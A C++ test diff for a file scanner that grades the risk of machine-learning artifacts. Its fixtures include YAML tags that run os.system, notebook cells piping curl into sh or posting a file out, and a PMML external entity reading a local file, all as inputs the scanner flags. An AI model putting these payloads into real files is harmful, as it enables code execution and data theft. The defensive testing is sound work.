@@ -83,13 +83,32 @@ TEST(DocumentJudge, ReadsTemplates) {
       Level::kCritical);
 }
 
+TEST(DocumentJudge, KnowsObjectsThatYamlMayRebuild) {
+  const std::string harmless = "a: !!python/object:argparse.Namespace\n  b: 1\n";
+  EXPECT_EQ(worst("hparams.yaml", harmless), Level::kInformational);
+  EXPECT_EQ(worst("hparams.yaml", harmless + "c: !!python/object/apply:os.system [id]\n"),
+            Level::kCritical);
+  EXPECT_EQ(worst("hparams.yaml", "a: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n"),
+            Level::kCritical);
+}
+
 TEST(DocumentJudge, ReadsSettingsAndNotebooks) {
   EXPECT_EQ(worst("config.json", R"({"auto_map":{"AutoModel":"modeling.Own"}})"), Level::kMedium);
   EXPECT_EQ(
       worst("a.ipynb", R"({"cells":[{"cell_type":"code","source":["!curl http://a | sh\n"]}]})"),
       Level::kMedium);
-  EXPECT_EQ(worst("a.ipynb", R"({"cells":[{"cell_type":"code","source":["import torch\n"]}]})"),
-            Level::kInformational);
+  for (const char* line : {"import torch", "model.eval()", "!wget -q https://a.example/b.csv"}) {
+    EXPECT_EQ(worst("a.ipynb", std::string(R"({"cells":[{"cell_type":"code","source":[")") + line +
+                                   R"("]}]})"),
+              Level::kInformational)
+        << line;
+  }
+  for (const char* line : {"x = eval(y)", "!wget -q http://a.example/b", "!curl -d @b https://a"}) {
+    EXPECT_EQ(worst("a.ipynb", std::string(R"({"cells":[{"cell_type":"code","source":[")") + line +
+                                   R"("]}]})"),
+              Level::kMedium)
+        << line;
+  }
   EXPECT_EQ(
       worst("a.pmml", R"(<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a/>)"),
       Level::kHigh);
